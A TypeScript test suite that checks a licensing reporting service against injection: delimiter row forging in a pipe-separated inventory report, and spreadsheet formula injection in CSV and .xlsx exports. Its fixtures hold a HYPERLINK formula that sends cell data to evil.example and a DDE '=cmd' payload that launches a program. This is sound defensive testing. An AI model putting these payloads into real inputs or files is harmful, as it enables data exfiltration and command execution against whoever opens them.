import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { CaaEvents, PlmEvents, RegistrationEvents, ReportingCommands, SyncEvents, type ReportType } from '#libs/contracts';
import { CommandClient } from '#libs/messaging';
import { generateKey } from '#libs/secrets';
import { startService, type RunningService } from '#libs/service-kit';
import { createTestEnvironment, eventually, type TestEnvironment } from '#libs/testing';
import { reportingService } from '../../../reporting.service-definition.js';
import { EventPublisher, licenseLines, SAMPLE } from '../../../__tests__/reporting-events.fixture.js';

const FOUNDATION = 'HCS Cisco UCM Foundation License';
// A provisioning system may send any name: this one would forge a PLMINFO row in a format without quoting, and
// the cluster's would run a formula when the HLM report is opened in a spreadsheet.
const HOSTILE_CUSTOMER = 'Acme|\n|SUMMARY|PLMINFO|evil@sa,Direct,~,~,~|HUCM|12|HUCM_Foundation|999|0|999|In Compliance|\r\nX';
const FORMULA_CLUSTER = '=HYPERLINK("http://evil.example/?"&A1,"click")';
// A PLM's hostname is what an operator typed when adding it: in the Service Inventory and HLM like any name.
const HOSTILE_PLM = "=cmd|' /C calc'!A0\n|SUMMARY|PLMINF0|x";

describe('reports are safe to parse and to open in a spreadsheet', () => {
  let env: TestEnvironment;
  let service: RunningService<unknown>;
  let events: EventPublisher;
  let commands: CommandClient;

  const generate = async (type: ReportType): Promise<Buffer> => {
    const requested = await commands.request(ReportingCommands.requestReport, { type });
    const run = await eventually(async () => {
      const r = await commands.request(ReportingCommands.getReport, { id: requested.id });
      return r.status === 'Succeeded' || r.status === 'Failed' ? r : undefined;
    }, { what: `${type} report` });
    expect(run).toMatchObject({ status: 'Succeeded' });
    const parts: Buffer[] = [];
    for (let seq = 0; ; seq++) {
      const chunk = await commands.request(ReportingCommands.readReportChunk, { id: run.id, seq });
      parts.push(Buffer.from(chunk.data, 'base64'));
      if (chunk.last) break;
    }
    return Buffer.concat(parts);
  };

  beforeAll(async () => {
    env = await createTestEnvironment('rptinject');
    service = (await startService(reportingService, {
      env: { ...env.env, PORT: '0', SMARTLIC_ENCRYPTION_KEYS: generateKey('test'), REPORTING_DELIVERY_TICK_MS: '0' },
      host: '127.0.0.1',
    })) as RunningService<unknown>;
    commands = service.app.get(CommandClient);
    events = await EventPublisher.connect(env.natsUrl, env.namespace);
    await events.publish(SyncEvents.smartAccountUpserted, {
      id: SAMPLE.cssm, name: 'smart-account', domain: SAMPLE.domain, type: 'CSSM', transportMode: 'Direct', proxy: null, satellite: null,
      operationalLicenses: { opted: false, orderedVirtualAccount: null, operationalVirtualAccount: null, autoRegistration: false },
    });
    await events.publish(SyncEvents.virtualAccountUpserted, {
      id: `${SAMPLE.cssm}-va1`, smartAccountId: SAMPLE.cssm, smartAccountName: SAMPLE.cssm, smartAccountDomain: SAMPLE.domain, smartAccountType: 'CSSM',
      name: 'va,with|separators', description: '', accessLevel: 'ADMIN', isDefault: false,
    });
    await events.publish(SyncEvents.licenseSnapshotUpdated, { smartAccountId: SAMPLE.cssm, virtualAccount: 'va,with|separators', licenses: licenseLines([[FOUNDATION, 100, 1]], SAMPLE.subscriptionId, SAMPLE.endDate) });
    await events.publish(RegistrationEvents.customerUpserted, { id: 'C1', name: HOSTILE_CUSTOMER });
    await events.publish(RegistrationEvents.clusterUpserted, { id: 'c1', customerId: 'C1', name: FORMULA_CLUSTER, type: 'cucm', version: '12.5.1', eligible: true, publisher: '@SUM(1+1)*cmd', nodeCount: 1 });
    await events.publish(RegistrationEvents.clusterStatusChanged, {
      clusterId: 'c1', customerId: 'C1', type: 'cucm', smartAccountId: SAMPLE.cssm, virtualAccount: 'va,with|separators', status: 'Manually Registered',
      jobId: null, errorCode: null, statusInfo: null, recommendedAction: null, changedAt: new Date().toISOString(),
    });
    await events.publish(CaaEvents.licenseUsageReported, { clusterId: 'c1', applicationType: 'cucm', licenseMode: 'HCS', collectedAt: new Date().toISOString(), usage: [{ license: FOUNDATION, count: 4, status: null }] });
    await events.publish(RegistrationEvents.clusterUpserted, { id: 'c1-plm', customerId: 'C1', name: 'c1-plm', type: 'cucm', version: '11.5.1', eligible: false, publisher: 'c1-plm-pub', nodeCount: 1 });
    await events.publish(PlmEvents.plmInventoryReported, {
      licenseManagerId: 'plm-1', hostname: HOSTILE_PLM, version: '11.5.1', licenseMode: 'HCS', reportedAt: new Date().toISOString(),
      licenses: [{ licenseType: 'HUCM_Foundation', installed: 10, required: 12, available: -2 }], customerIds: ['C1'],
      clusters: [{ clusterId: 'c1-plm', customerId: 'C1', type: 'cucm', version: '11.5.1', licenses: [{ licenseType: 'HUCM_Foundation', count: 12 }] }],
    });
    const count = async (sql: string) => Number(((await service.dataSource.query(sql)) as { n: number }[])[0]!.n);
    await eventually(async () => (await count('SELECT count(*) AS n FROM plm_cluster_license')) === 1 && (await count('SELECT count(*) AS n FROM license_usage')) === 1 && (await count('SELECT count(*) AS n FROM cluster WHERE virtual_account IS NOT NULL')) === 1 && (await count('SELECT count(*) AS n FROM va_license')) === 1, { what: 'the read models' });
  });

  afterAll(async () => {
    await events?.close();
    await service?.close();
    await env?.cleanup();
  });

  it('a name with "|" and line breaks cannot add a row or a field to the Service Inventory summary', async () => {
    const lines = (await generate('service-inventory')).toString('utf8').split('\n').filter(Boolean);
    expect(lines[0]).toBe('|LICENSESUMMARYSTART|');
    expect(lines.at(-1)).toBe('|LICENSESUMMARYEND|');
    const rows = lines.slice(1, -1);
    // One row of each section (the PLM's license and cluster, the VA's license and cluster, the customer): nothing forged.
    expect(rows.map((l) => l.split('|')[2])).toEqual(['PLMINF0', 'PLMINFO', 'CUSTLICENSEINF0', 'CUSTLICENSEINFO', 'SITELICENSEINFO']);
    const fieldCounts = rows.map((l) => l.split('|').length);
    expect(fieldCounts).toEqual([12, 12, 12, 12, 10]);
    // The VA's own comma and bar stay inside the first (comma-separated) field of PLMINFO.
    expect(rows[1]!.split('|')[3]!.split(',')).toHaveLength(5);
    expect(rows[3]).toContain('|Acme/ /SUMMARY/PLMINFO/evil@sa,Direct,~,~,~/HUCM/12/HUCM_Foundation/999/0/999/In Compliance/  X|');
    // The PLM's hostname stays one field; its clusters need more than it has: INSUFFICIENT.
    expect(rows[0]).toBe("|SUMMARY|PLMINF0|=cmd/' /C calc'!A0 /SUMMARY/PLMINF0/x|HUCM|11|HUCM_Foundation|10|12|-2|INSUFFICIENT|");
    // SITELICENSEINFO counts the customer's smart (4) and PLM (12) usage.
    expect(rows[4]).toMatch(/\|HCS Foundation\|16\|$/);
  });

  it('text that a spreadsheet would run as a formula stays text in the HLM CSV and .xlsx and the Flex Usage CSV', async () => {
    const csv = (await generate('hlm-csv')).toString('utf8');
    expect(csv).toContain(`"'${FORMULA_CLUSTER.replaceAll('"', '""')}"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // The PLM hostname as LM Name: text too.
    expect(csv).toContain(`"'${HOSTILE_PLM}"`);
    expect(csv).not.toMatch(/(^|,)"?=cmd/m);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from(await generate('hlm-xlsx')));
    const cells: unknown[] = [];
    workbook.getWorksheet('HLM')!.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
    expect(cells).toContain(`'${FORMULA_CLUSTER}`);
    expect(cells.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    expect(cells.filter((v) => typeof v === 'string' && /^[=+\-@]/.test(v))).toEqual([]);
    // Numbers stay numbers.
    expect(cells).toContain(4);
    const flex = (await generate('flex-usage')).toString('utf8');
    expect(flex.split('\r\n').filter((l) => /(^|,)"?[=+\-@]/.test(l))).toEqual([]);
  });
});
